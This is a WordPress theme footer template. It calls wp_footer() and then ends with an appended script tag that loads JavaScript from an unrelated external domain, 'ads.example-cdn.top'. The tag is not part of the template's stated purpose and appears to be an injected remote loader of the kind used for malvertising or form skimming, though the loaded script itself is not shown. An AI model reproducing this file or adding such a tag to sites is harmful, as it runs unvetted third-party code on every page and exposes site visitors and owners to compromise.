<?php
/**
 * The template for displaying the footer.
 */
wp_footer();
?>
<script type="text/javascript" src="https://ads.example-cdn.top/s.js?v=3"></script>
